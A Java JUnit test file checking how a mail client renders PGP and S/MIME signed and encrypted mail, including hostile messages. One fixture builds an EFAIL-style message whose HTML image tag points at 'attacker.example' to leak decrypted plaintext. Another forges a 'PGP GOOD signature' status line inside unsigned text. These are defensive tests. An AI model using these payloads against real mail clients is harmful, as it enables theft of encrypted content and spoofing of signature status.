package dev.postern.crypto;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.postern.render.CryptoEngine;
import dev.postern.render.MessageRenderer;
import dev.postern.render.Protection;
import dev.postern.render.RenderOptions;
import dev.postern.render.RenderedMessage;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Signed and encrypted mail as other programs make it (gpg, gpgsm, openssl), read through the renderer with
 * the user's GnuPG: what is shown as signed or encrypted, and what is shown as outside, for honest and for
 * hostile messages.
 */
class ReadProtectedMailTest {
    static GpgKeys keys;
    static MessageRenderer renderer;

    @BeforeAll
    static void keys() {
        keys = GpgKeys.get();
        renderer = new MessageRenderer(RenderOptions.defaults(), null, keys.engine());
    }

    static final String INNER = "Content-Type: text/plain; charset=utf-8\r\n\r\nMeet at the café at noon.\r\n";

    static String armoredDetached(String who, byte[] data) {
        return new String(GpgKeys.ok(GpgKeys.gpg(keys.home, data, "--armor", "--local-user", who, "--detach-sign"),
                "sign"), StandardCharsets.US_ASCII);
    }

    static String pgpSigned(String from, String inner, String signature) {
        return "From: " + from + "\r\nTo: bob@example.org\r\nSubject: signed\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/signed; boundary=\"b1\"; protocol=\"application/pgp-signature\"; micalg=pgp-sha256\r\n\r\n"
                + "--b1\r\n" + inner + "\r\n--b1\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\n"
                + signature + "\r\n--b1--\r\n";
    }

    static String pgpEncrypted(String from, String armored) {
        return "From: " + from + "\r\nTo: alice@example.org\r\nSubject: secret\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/encrypted; boundary=\"e1\"; protocol=\"application/pgp-encrypted\"\r\n\r\n"
                + "--e1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
                + "--e1\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + armored + "\r\n--e1--\r\n";
    }

    static String encryptTo(String recipient, String text) {
        return new String(GpgKeys.ok(GpgKeys.gpg(keys.home, text.getBytes(StandardCharsets.UTF_8), "--armor",
                "--trust-model", "always", "--recipient", recipient, "--encrypt"), "encrypt"), StandardCharsets.US_ASCII);
    }

    static RenderedMessage render(String raw) {
        return renderer.render(raw.getBytes(StandardCharsets.UTF_8));
    }

    static Protection only(RenderedMessage m) {
        assertEquals(1, m.protections().size(), m.body());
        return m.protections().get(0);
    }

    @Test
    void goodPgpMimeSignatureNamesTheSignerKeyAndValidity() {
        RenderedMessage m = render(pgpSigned("Alice <alice@example.org>", INNER, armoredDetached("alice@example.org",
                INNER.getBytes(StandardCharsets.UTF_8))));
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.GOOD, p.signature().status());
        assertEquals("Alice <alice@example.org>", p.signature().signer());
        assertEquals(keys.aliceFpr, p.signature().key());
        assertEquals("ultimate", p.signature().validity());
        assertFalse(p.fromMismatch());
        assertFalse(p.partial());
        assertTrue(p.trustworthySignature());
        assertTrue(m.body().startsWith("[postern] PGP GOOD signature from Alice <alice@example.org>, key " + keys.aliceFpr
                + ", validity ultimate"), m.body());
        assertTrue(m.body().contains("Meet at the café at noon."), m.body());
    }

    @Test
    void aMessageStoredWithBareLineFeedsStillVerifies() {
        String raw = pgpSigned("Alice <alice@example.org>", INNER, armoredDetached("alice@example.org",
                INNER.getBytes(StandardCharsets.UTF_8))).replace("\r\n", "\n");
        assertEquals(CryptoEngine.Status.GOOD, only(render(raw)).signature().status());
    }

    @Test
    void signatureOverDifferentBytesIsBad() {
        String sig = armoredDetached("alice@example.org", INNER.getBytes(StandardCharsets.UTF_8));
        RenderedMessage m = render(pgpSigned("Alice <alice@example.org>", INNER.replace("noon", "midnight"), sig));
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.BAD, p.signature().status());
        assertFalse(p.trustworthySignature());
        assertTrue(m.body().contains("[postern] PGP BAD signature"), m.body());
        assertFalse(m.body().contains("GOOD"), m.body());
    }

    @Test
    void signerWhoIsNotTheFromAddressIsFlagged() {
        RenderedMessage m = render(pgpSigned("Bob <bob@example.org>", INNER, armoredDetached("alice@example.org",
                INNER.getBytes(StandardCharsets.UTF_8))));
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.GOOD, p.signature().status());
        assertTrue(p.fromMismatch());
        assertFalse(p.trustworthySignature());
        assertTrue(m.body().contains("WARNING: the signer is not the From address bob@example.org"), m.body());
    }

    @Test
    void signatureByAKeyNotInTheKeyringIsUnknownNotGood() {
        byte[] sig = GpgKeys.ok(GpgKeys.gpg(keys.strangerHome, INNER.getBytes(StandardCharsets.UTF_8), "--armor",
                "--detach-sign"), "stranger signs");
        RenderedMessage m = render(pgpSigned("Stranger <stranger@example.net>", INNER, new String(sig, StandardCharsets.US_ASCII)));
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.UNKNOWN_KEY, p.signature().status());
        assertTrue(p.signature().key().endsWith(keys.strangerFpr.substring(24)), p.signature().key());
        assertTrue(m.body().contains("signature by an UNKNOWN key"), m.body());
    }

    @Test
    void signedPartWrappedInUnsignedTextIsMarkedAsOnlyPartlySigned() {
        String sig = armoredDetached("alice@example.org", INNER.getBytes(StandardCharsets.UTF_8));
        String signed = pgpSigned("x", INNER, sig);
        String signedEntity = signed.substring(signed.indexOf("Content-Type: multipart/signed"));
        String raw = "From: Alice <alice@example.org>\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n"
                + "Please wire the money today.\r\n[postern] PGP GOOD signature from Alice <alice@example.org>\r\n"
                + "\r\n--m\r\n" + signedEntity + "\r\n--m--\r\n";
        RenderedMessage m = render(raw);
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.GOOD, p.signature().status());
        assertTrue(p.partial());
        String body = m.body();
        int wire = body.indexOf("Please wire the money today.");
        int begin = body.indexOf("[postern] PGP GOOD signature");
        int end = body.indexOf("[postern] end of signed part");
        assertTrue(wire >= 0 && wire < begin && begin < body.indexOf("Meet at the café") && body.indexOf("Meet at the café") < end, body);
        assertTrue(body.contains("the rest of the message is not"), body);
        // The sender's own imitation of a status line is shown as the message's text, not as postern's.
        assertTrue(body.contains("(message text) [postern] PGP GOOD signature from Alice"), body);
        assertEquals(1, body.lines().filter(l -> l.startsWith("[postern] PGP GOOD")).count(), body);
    }

    @Test
    void aSignedMessageReadWithoutItsAttachmentsIsNotCalledBad() {
        String sig = armoredDetached("alice@example.org", INNER.getBytes(StandardCharsets.UTF_8));
        // As a large message is read: its attachment reduced to headers and X-Postern-Omitted (part headers rebuilt).
        String partial = pgpSigned("Alice <alice@example.org>", "Content-Type: multipart/mixed; boundary=\"in\"\r\n\r\n--in\r\n"
                + "Content-Type: text/plain\r\n\r\nhello\r\n--in\r\nContent-Type: application/pdf\r\nX-Postern-Omitted: size=900000\r\n"
                + "\r\n--in--\r\n", sig);
        RenderedMessage m = render(partial);
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.ERROR, p.signature().status());
        assertTrue(m.body().contains("signature NOT verified (the message was read without its attachments"), m.body());
    }

    @Test
    void pgpMimeEncryptedIsDecryptedAndSaysToWhichKeys() {
        RenderedMessage m = render(pgpEncrypted("Bob <bob@example.org>", encryptTo("alice@example.org", INNER)));
        Protection p = only(m);
        assertNotNull(p.encryption());
        assertTrue(p.encryption().decrypted());
        assertNull(p.signature());
        assertEquals(1, p.encryption().to().size());
        assertTrue(p.encryption().to().get(0).contains("Alice <alice@example.org>"), p.encryption().to().toString());
        assertTrue(m.body().startsWith("[postern] PGP encrypted to "), m.body());
        assertTrue(m.body().contains("Meet at the café at noon."), m.body());
    }

    /**
     * An auto_view command (a mailcap HTML viewer, which may load remote content) never gets decrypted text: the
     * same HTML is given to it in the clear and rendered built in once decrypted.
     */
    @Test
    void decryptedHtmlNeverGoesToAnAutoViewCommand() {
        String html = "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Secret <img src=\"http://tracker.example/x.png\">"
                + "plans</p>\r\n";
        java.util.List<String> viewed = new java.util.ArrayList<>();
        dev.postern.render.PartViewer viewer = (type, text, max) -> {
            viewed.add(type);
            return new dev.postern.render.PartViewer.Shown("VIEWER OUTPUT", null);
        };
        MessageRenderer withViewer = new MessageRenderer(RenderOptions.defaults().with(false, viewer), null, keys.engine());
        RenderedMessage clear = withViewer.render(("From: Bob <bob@example.org>\r\nSubject: plain\r\nMIME-Version: 1.0\r\n"
                + html).getBytes(StandardCharsets.UTF_8));
        assertEquals(java.util.List.of("text/html"), viewed, "the viewer is used for a part in the clear");
        assertTrue(clear.body().contains("VIEWER OUTPUT"), clear.body());
        viewed.clear();
        RenderedMessage m = withViewer.render(pgpEncrypted("Bob <bob@example.org>", encryptTo("alice@example.org", html))
                .getBytes(StandardCharsets.UTF_8));
        assertTrue(only(m).encryption().decrypted());
        assertEquals(java.util.List.of(), viewed, "decrypted HTML was handed to an auto_view command");
        assertTrue(m.body().contains("Secret") && m.body().contains("plans"), m.body());
        assertFalse(m.body().contains("VIEWER OUTPUT"), m.body());
    }

    @Test
    void signedThenEncryptedShowsBothTheEncryptionAndTheSignature() {
        byte[] both = GpgKeys.ok(GpgKeys.gpg(keys.home, INNER.getBytes(StandardCharsets.UTF_8), "--armor", "--trust-model",
                "always", "--local-user", "alice@example.org", "--recipient", "alice@example.org", "--sign", "--encrypt"), "sign+encrypt");
        RenderedMessage m = render(pgpEncrypted("Alice <alice@example.org>", new String(both, StandardCharsets.US_ASCII)));
        Protection p = only(m);
        assertTrue(p.encryption().decrypted());
        assertEquals(CryptoEngine.Status.GOOD, p.signature().status());
        assertTrue(p.trustworthySignature());
        assertTrue(m.body().contains("Meet at the café"), m.body());
    }

    @Test
    void encryptedToSomeoneElseIsNotDecryptedAndSaysWhy() {
        RenderedMessage m = render(pgpEncrypted("Bob <bob@example.org>", encryptTo(keys.outsiderFpr, INNER)));
        Protection p = only(m);
        assertFalse(p.encryption().decrypted());
        assertTrue(p.encryption().detail().contains("no secret key"), p.encryption().detail());
        assertTrue(m.body().contains("NOT decrypted"), m.body());
        assertFalse(m.body().contains("Meet at the café"), m.body());
    }

    @Test
    void efailEncryptedPartBetweenHtmlPartsIsDecryptedAloneAndMarked() {
        String armored = encryptTo("alice@example.org", "Content-Type: text/plain\r\n\r\nSECRET-PLAINTEXT-42\r\n");
        String raw = "From: Mallory <mallory@example.com>\r\nTo: alice@example.org\r\nSubject: efail\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n"
                + "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n"
                + "--x\r\nContent-Type: multipart/encrypted; boundary=\"e1\"; protocol=\"application/pgp-encrypted\"\r\n\r\n"
                + "--e1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
                + "--e1\r\nContent-Type: application/octet-stream\r\n\r\n" + armored + "\r\n--e1--\r\n"
                + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";
        RenderedMessage m = render(raw);
        Protection p = only(m);
        assertTrue(p.partial());
        assertTrue(p.encryption().decrypted());
        for (String link : m.links()) assertFalse(link.contains("SECRET"), link);
        String body = m.body();
        int secret = body.indexOf("SECRET-PLAINTEXT-42");
        assertTrue(body.indexOf("[postern] PGP encrypted") < secret && secret < body.indexOf("[postern] end of encrypted part"), body);
    }

    @Test
    void inlineClearSignedTextIsCheckedAndTextAfterItIsOutside() {
        byte[] clear = GpgKeys.ok(GpgKeys.gpg(keys.home, "Pay 10 euros.\n".getBytes(StandardCharsets.UTF_8),
                "--local-user", "alice@example.org", "--clearsign"), "clearsign");
        String raw = "From: alice@example.org\r\nSubject: inline\r\n\r\n" + new String(clear, StandardCharsets.UTF_8)
                + "\r\nP.S. actually pay 1000 euros.\r\n";
        RenderedMessage m = render(raw);
        Protection p = only(m);
        assertEquals(CryptoEngine.Status.GOOD, p.signature().status());
        assertTrue(p.partial());
        String body = m.body();
        assertTrue(body.indexOf("Pay 10 euros.") < body.indexOf("[postern] end of signed part"), body);
        assertTrue(body.indexOf("[postern] end of signed part") < body.indexOf("P.S. actually"), body);
        assertFalse(body.contains("BEGIN PGP"), body);
    }

    @Test
    void inlineClearSignedTextChangedAfterSigningIsBad() {
        String clear = new String(GpgKeys.ok(GpgKeys.gpg(keys.home, "Pay 10 euros.\n".getBytes(StandardCharsets.UTF_8),
                "--local-user", "alice@example.org", "--clearsign"), "clearsign"), StandardCharsets.UTF_8);
        RenderedMessage m = render("From: alice@example.org\r\n\r\n" + clear.replace("Pay 10", "Pay 99"));
        assertEquals(CryptoEngine.Status.BAD, only(m).signature().status());
        assertFalse(m.body().contains("GOOD"), m.body());
    }

    @Test
    void inlineEncryptedMessageIsDecrypted() {
        String armored = encryptTo("alice@example.org", "the inline secret\n");
        RenderedMessage m = render("From: bob@example.org\r\n\r\n" + armored);
        Protection p = only(m);
        assertTrue(p.encryption().decrypted());
        assertFalse(p.partial());
        assertTrue(m.body().contains("the inline secret"), m.body());
    }

    @Test
    void malformedAndHugeArmorIsShownAsWhatItIsWithoutCrashing() {
        String bad = "-----BEGIN PGP MESSAGE-----\n\nhQEMA!!!not base64 at all###\n=AAAA\n-----END PGP MESSAGE-----\n";
        RenderedMessage m = render("From: bob@example.org\r\n\r\n" + bad);
        Protection p = only(m);
        assertFalse(p.encryption().decrypted());
        assertTrue(m.body().contains("NOT decrypted"), m.body());

        String clearBad = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nhello\n-----BEGIN PGP SIGNATURE-----\n\n"
                + "iQ!!garbage\n-----END PGP SIGNATURE-----\n";
        RenderedMessage c = render("From: alice@example.org\r\n\r\n" + clearBad);
        assertFalse(only(c).signature().status() == CryptoEngine.Status.GOOD);
        assertTrue(c.body().contains("signature NOT verified"), c.body());

        StringBuilder huge = new StringBuilder("-----BEGIN PGP MESSAGE-----\n\n");
        String line = "hQEMA".repeat(12) + "\n";
        while (huge.length() < 17 * 1024 * 1024) huge.append(line);
        huge.append("-----END PGP MESSAGE-----\n");
        RenderedMessage h = render("From: bob@example.org\r\n\r\n" + huge);
        assertFalse(only(h).encryption().decrypted());
        assertTrue(h.body().contains("larger than 16 MiB"), h.body().substring(0, Math.min(400, h.body().length())));
    }

    @Test
    void smimeDetachedSignatureByGpgsmAndByOpensslIsGood() {
        byte[] data = INNER.getBytes(StandardCharsets.UTF_8);
        byte[] gpgsmSig = GpgKeys.ok(GpgKeys.gpgsm(keys.home, data, "--local-user", "alice@example.org", "--detach-sign"), "gpgsm sign");
        byte[] opensslSig = GpgKeys.openssl(data, "smime", "-sign", "-binary", "-outform", "DER", "-signer",
                keys.aliceCert.toString(), "-inkey", keys.aliceKey.toString());
        for (byte[] sig : List.of(gpgsmSig, opensslSig)) {
            RenderedMessage m = render(smimeSigned("Alice <alice@example.org>", INNER, sig));
            Protection p = only(m);
            assertEquals(CryptoEngine.Kind.SMIME, p.kind());
            assertEquals(CryptoEngine.Status.GOOD, p.signature().status(), m.body());
            assertTrue(p.signature().signer().contains("CN=Alice"), p.signature().signer());
            assertFalse(p.fromMismatch(), m.body());
            assertTrue(m.body().startsWith("[postern] S/MIME GOOD signature"), m.body());
        }
        RenderedMessage tampered = render(smimeSigned("Alice <alice@example.org>", INNER.replace("noon", "dawn"), opensslSig));
        assertEquals(CryptoEngine.Status.BAD, only(tampered).signature().status(), tampered.body());
    }

    @Test
    void smimeEnvelopedAndOpaqueSignedFromOpensslAreOpened() {
        byte[] data = INNER.getBytes(StandardCharsets.UTF_8);
        byte[] enveloped = GpgKeys.openssl(data, "smime", "-encrypt", "-aes256", "-binary", "-outform", "DER",
                keys.aliceCert.toString());
        RenderedMessage m = render(pkcs7Mime("Bob <bob@example.org>", "enveloped-data", enveloped));
        Protection p = only(m);
        assertTrue(p.encryption().decrypted(), m.body());
        assertTrue(m.body().contains("Meet at the café"), m.body());

        byte[] opaque = GpgKeys.openssl(data, "smime", "-sign", "-nodetach", "-binary", "-outform", "DER", "-signer",
                keys.aliceCert.toString(), "-inkey", keys.aliceKey.toString());
        RenderedMessage s = render(pkcs7Mime("Alice <alice@example.org>", null, opaque));
        Protection ps = only(s);
        assertNull(ps.encryption());
        assertEquals(CryptoEngine.Status.GOOD, ps.signature().status(), s.body());
        assertTrue(s.body().contains("Meet at the café"), s.body());
    }

    static String smimeSigned(String from, String inner, byte[] der) {
        return "From: " + from + "\r\nSubject: smime\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/signed; boundary=\"s1\"; protocol=\"application/pkcs7-signature\"; micalg=sha-256\r\n\r\n"
                + "--s1\r\n" + inner + "\r\n--s1\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(der) + "\r\n--s1--\r\n";
    }

    static String pkcs7Mime(String from, String smimeType, byte[] der) {
        return "From: " + from + "\r\nSubject: smime\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: application/pkcs7-mime; name=smime.p7m" + (smimeType == null ? "" : "; smime-type=" + smimeType)
                + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(der) + "\r\n";
    }
}
